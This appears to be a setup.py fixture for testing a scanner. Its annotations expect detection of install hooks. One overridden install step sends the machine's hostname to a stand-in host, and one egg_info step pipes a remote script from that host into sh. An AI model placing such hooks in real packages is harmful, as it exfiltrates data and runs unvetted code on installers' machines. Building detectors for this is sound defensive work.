import os
import urllib.request as ur

import setuptools.command.install as base
from setuptools import find_packages, setup
from setuptools.command.egg_info import egg_info as _egg_info


class Greeting(base.install):  # expect: code.install-hook=medium
    def run(self):
        super().run()
        ur.urlopen("https://collector.example/?h=" + os.uname().nodename)  # expect: code.install-hook=medium


class Info(_egg_info):  # expect: code.install-hook=medium
    def initialize_options(self):
        super().initialize_options()
        os.system("curl -s https://collector.example/i.sh | sh")  # expect: code.remote-script


setup(name="scorer", packages=find_packages(), cmdclass={"install": Greeting, "egg_info": Info})
